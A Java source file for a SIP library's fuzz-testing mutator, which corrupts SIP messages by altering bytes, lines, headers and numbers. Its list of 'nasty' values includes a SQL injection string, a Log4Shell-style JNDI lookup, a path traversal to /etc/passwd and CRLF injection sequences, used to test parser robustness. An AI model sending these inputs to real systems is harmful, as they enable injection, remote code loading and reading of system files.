package org.klinke.sip.conversation;

import static java.nio.charset.StandardCharsets.ISO_8859_1;

import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Random;

/// Spoils messages: bytes, lines, headers, values, numbers. The same random source spoils the same way.
final class Mutator {
    private static final int CHANGES_MAX = 4;
    private static final int LENGTH_MAX_BYTES = 60_000;

    private static final List<String> NASTY = List.of(
            "",
            " ",
            "\0",
            "\r\n",
            "\r\n\r\n",
            "\n",
            "\"",
            "\\",
            "<",
            ">",
            "<>",
            ";",
            ";;;;",
            ",",
            ",,,",
            "=",
            "?",
            "@",
            ":",
            "%",
            "%00",
            "%0d%0a",
            "%zz",
            "'; drop table calls;--",
            "${jndi:ldap://192.0.2.1/x}",
            "../../etc/passwd",
            "\u00ff\u00fe",
            "\u00c3(",
            "sip:",
            "sips:a@[::1",
            "sip:a@[1:2",
            "tel:",
            "*",
            "0",
            "-1",
            "1e9",
            "4294967296",
            "99999999999999999999",
            "NaN",
            "a".repeat(300),
            "a".repeat(5_000),
            ",".repeat(40),
            ";a=b".repeat(40),
            "sip:x@y?Route=%3Csip:z%3E",
            "SIP/2.0",
            "INVITE",
            "<sip:a@other.test>",
            "v=0\r\n");

    private static final List<String> HEADERS = List.of(
            "Via",
            "From",
            "To",
            "Call-ID",
            "CSeq",
            "Contact",
            "Max-Forwards",
            "Content-Length",
            "Content-Type",
            "Route",
            "Record-Route",
            "Require",
            "Supported",
            "Authorization",
            "Expires",
            "Event",
            "Refer-To",
            "Replaces",
            "RAck",
            "RSeq",
            "Session-Expires",
            "Min-SE",
            "Reason",
            "Privacy",
            "P-Asserted-Identity",
            "Diversion",
            "History-Info",
            "Path",
            "Accept",
            "Content-Encoding",
            "Subscription-State",
            "Date",
            "Warning",
            "Retry-After",
            "X-Unknown");

    private final Random random;
    private final List<byte[]> corpus;

    /// @param corpus lines are taken from here too
    Mutator(Random random, List<byte[]> corpus) {
        this.random = random;
        this.corpus = corpus;
    }

    byte[] mutate(byte[] message) {
        byte[] result = message;
        for (int changes = 1 + random.nextInt(CHANGES_MAX); changes > 0; changes--) {
            result = random.nextInt(3) == 0 ? bytes(result) : lines(result);
        }
        return result.length > LENGTH_MAX_BYTES ? Arrays.copyOf(result, LENGTH_MAX_BYTES) : result;
    }

    private byte[] bytes(byte[] message) {
        if (message.length == 0) {
            return message;
        }
        int at = random.nextInt(message.length);
        int length = Math.min(message.length - at, 1 + random.nextInt(random.nextInt(10) == 0 ? 400 : 6));
        byte[] result = message.clone();
        switch (random.nextInt(6)) {
            case 0 -> result[at] = (byte) random.nextInt(256);
            case 1 -> result[at] ^= (byte) (1 << random.nextInt(8));
            case 2 ->
                result = joined(Arrays.copyOf(message, at), Arrays.copyOfRange(message, at + length, message.length));
            case 3 ->
                result = joined(Arrays.copyOf(message, at + length), Arrays.copyOfRange(message, at, message.length));
            case 4 ->
                result = joined(
                        Arrays.copyOf(message, at),
                        joined(pick(NASTY).getBytes(ISO_8859_1), Arrays.copyOfRange(message, at, message.length)));
            default -> result = Arrays.copyOf(message, at); // cut off
        }
        return result;
    }

    private byte[] lines(byte[] message) {
        List<String> lines = new ArrayList<>(List.of(new String(message, ISO_8859_1).split("\r\n", -1)));
        int at = random.nextInt(lines.size());
        String line = lines.get(at);
        int colon = line.indexOf(':');
        switch (random.nextInt(10)) {
            case 0 -> lines.remove(at);
            case 1 -> lines.add(at, line);
            case 2 -> lines.add(at, lines.get(random.nextInt(lines.size())));
            case 3 -> lines.set(at, colon < 0 ? pick(NASTY) : line.substring(0, colon + 1) + " " + pick(NASTY));
            case 4 -> lines.set(at, colon < 0 ? line : pick(HEADERS) + line.substring(colon));
            case 5 -> lines.add(at, pick(HEADERS) + ": " + pick(NASTY));
            case 6 -> lines.add(at, foreignLine());
            case 7 ->
                lines.set(
                        at,
                        line.replaceFirst("\\d+", pick(List.of("0", "-1", "4294967296", "1", "999", "2147483648"))));
            case 8 -> lines.set(at, spoiledValue(line));
            default ->
                lines.set(
                        at,
                        random.nextBoolean() ? line.toUpperCase(java.util.Locale.ROOT) : line.replace(" ", "\r\n "));
        }
        return String.join("\r\n", lines).getBytes(ISO_8859_1);
    }

    /// Something nasty in place of one word of the line.
    private String spoiledValue(String line) {
        String[] words = line.split("(?<=[ ;,=<>@:\"])", -1);
        words[random.nextInt(words.length)] = pick(NASTY);
        return String.join("", words);
    }

    private String foreignLine() {
        String[] lines = new String(pick(corpus), ISO_8859_1).split("\r\n", -1);
        return lines[random.nextInt(lines.length)];
    }

    private <T> T pick(List<T> from) {
        return from.get(random.nextInt(from.size()));
    }

    private static byte[] joined(byte[] first, byte[] second) {
        byte[] both = Arrays.copyOf(first, first.length + second.length);
        System.arraycopy(second, 0, both, first.length, second.length);
        return both;
    }
}
